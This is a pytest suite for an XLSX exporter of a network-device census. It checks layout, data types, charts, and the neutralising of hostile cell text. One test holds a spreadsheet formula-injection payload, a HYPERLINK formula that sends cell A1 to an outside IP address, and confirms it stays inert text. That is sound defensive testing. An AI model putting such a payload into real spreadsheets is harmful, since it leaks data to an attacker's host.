"""The workbook as a spreadsheet sees it: kinds of cells, filters, frozen headings, charts; and nothing that runs."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from reports import xlsx
from reports.xlsx.cells import LONGEST, harmless, width
from tests.reports.samples import HOSTILE_TEXTS, census, hikvision, hostile, large, plan


def opened(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))


@pytest.fixture(scope="module")
def book() -> Any:
    return opened(xlsx.render(census(plan=plan())))


def test_each_sheet_has_a_filter_and_a_heading_that_stays(book: Any) -> None:
    assert book.sheetnames == ["Summary", "Devices", "Plan", "Bill of materials", "What was not seen"]
    for sheet in book.worksheets[1:]:
        assert sheet.freeze_panes == "B2" and sheet.print_title_rows == "$1:$1"
        assert sheet.auto_filter.ref.startswith("A1:")
    assert book["Devices"].auto_filter.ref == f"A1:AD{1 + len(census().devices)}"


def test_dates_are_dates_and_numbers_are_numbers(book: Any) -> None:
    devices, items, bill = book["Devices"], book["Plan"], book["Bill of materials"]
    column = {cell.value: number for number, cell in enumerate(devices[1])}
    first = devices[2]
    assert first[column["Last seen"]].value == datetime(2026, 3, 14, 11, 32)
    assert first[column["Made"]].value == datetime(2023, 6, 14) and first[column["Made"]].is_date
    assert items["D2"].value == datetime(2026, 3, 14) and items["A2"].value == 90
    assert bill["G2"].value == 289.0 and bill["G2"].number_format == "#,##0.00"


def test_a_month_of_manufacture_claims_no_day(book: Any) -> None:
    made = opened(xlsx.render(census((hikvision(1), hikvision(2, maker="dahua", serial="6C01E93PAG68A8D")))))
    cells = [cell for row in made["Devices"].iter_rows() for cell in row if cell.number_format == "yyyy-mm"]
    assert [cell.value for cell in cells] == [datetime(2020, 3, 1)]


def test_columns_are_as_wide_as_their_texts_and_no_wider_than_reads_well(book: Any) -> None:
    widths = {letter: one.width for letter, one in book["Devices"].column_dimensions.items()}
    assert widths["A"] >= len("10.20.0.15") and all(8 <= found <= 62 for found in widths.values())
    assert width("海康威视") == 8 and width(date(2026, 1, 1)) == 10


def test_columns_in_which_nothing_is_known_are_hidden(book: Any) -> None:
    sheet = book["Devices"]
    hidden = {sheet[f"{letter}1"].value for letter, one in sheet.column_dimensions.items() if one.hidden}
    assert {"Building", "Lease", "Note"} <= hidden and "Address" not in hidden and "Serial" not in hidden


def test_the_charts_are_native_and_show_the_cells_beside_them(book: Any) -> None:
    content = xlsx.render(census(plan=plan()))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        charts = [archive.read(name).decode() for name in archive.namelist() if "charts/chart" in name]
    assert len(charts) == 6 and sum("<lineChart>" in chart for chart in charts) == 1
    assert all("'Summary'!$B" in chart for chart in charts)
    sheet = book["Summary"]
    rows = [[cell.value for cell in row[:5]] for row in sheet.iter_rows()]
    at = next(number for number, row in enumerate(rows) if row[0] == "By maker")
    assert rows[at + 2][1:5] == ["confirmed", "probable", "possible", "none"]
    assert rows[at + 3][:4] == ["Hikvision", 9, 2, 1]


@pytest.mark.parametrize("text", HOSTILE_TEXTS.values(), ids=HOSTILE_TEXTS)
def test_a_hostile_text_is_a_text_in_the_file_itself(text: str) -> None:
    content = xlsx.render(census((hikvision(1, brand=text, model=text, note=text, conflicts=(text,)),)))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if "worksheets/sheet" in name]
        assert not any(
            "<f>" in sheet or "hyperlink" in sheet.lower().replace(text.lower(), "").replace("=hyperlink", "")
            for sheet in sheets
        )
    for sheet in opened(content).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n", "d", "inlineStr") and cell.hyperlink is None
                assert not isinstance(cell.value, str) or (
                    cell.value.isprintable() and len(cell.value) < 32_767
                )


def test_text_that_a_spreadsheet_may_take_for_something_else_is_marked_as_text() -> None:
    made = opened(xlsx.render(census((hikvision(1, model="=1+1"), hikvision(2, model="#REF!")))))
    cells = [cell for row in made["Devices"].iter_rows() for cell in row if cell.value in ("=1+1", "#REF!")]
    assert len(cells) == 2 and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


def test_an_escape_of_excel_stays_what_it_is() -> None:
    assert harmless("_x0007_") == "_x005F_x0007_" and harmless("a_b_x1") == "a_b_x1"
    assert len(harmless("A" * 50_000)) <= LONGEST + 1


def test_an_empty_census_makes_a_workbook_too() -> None:
    book = opened(xlsx.render(census(())))
    assert book["Devices"].max_row == 1 and "no plan yet" in str(
        [cell.value for row in book["Summary"].iter_rows() for cell in row]
    )


@pytest.mark.slow
def test_libreoffice_opens_hostile_texts_as_texts(tmp_path: Path) -> None:
    soffice = shutil.which("soffice")
    if not soffice:
        pytest.skip("needs LibreOffice: apt-get install libreoffice-calc-nogui")
    made = hostile()
    (tmp_path / "census.xlsx").write_bytes(xlsx.render(made))
    profile = (tmp_path / "profile").as_uri()
    every_sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,2"
    subprocess.run(
        [soffice, "--headless", f"-env:UserInstallation={profile}", "--convert-to", every_sheet, "census.xlsx"],
        cwd=tmp_path, check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    [found] = tmp_path.glob("census*.csv")
    rows = list(csv.DictReader(io.StringIO(found.read_text("utf-8"), newline="")))
    assert len(rows) == len(HOSTILE_TEXTS)
    models = [row["Model"] for row in rows]
    assert models == [harmless(device.model or "") for device in made.devices]
    assert '=HYPERLINK("http://203.0.113.9/?"&A1,"click")' in models


@pytest.mark.slow
def test_a_workbook_of_many_devices_holds_them_all() -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx.render(large(10_000))), read_only=True)
    assert sum(1 for _ in book["Devices"].iter_rows()) == 10_001
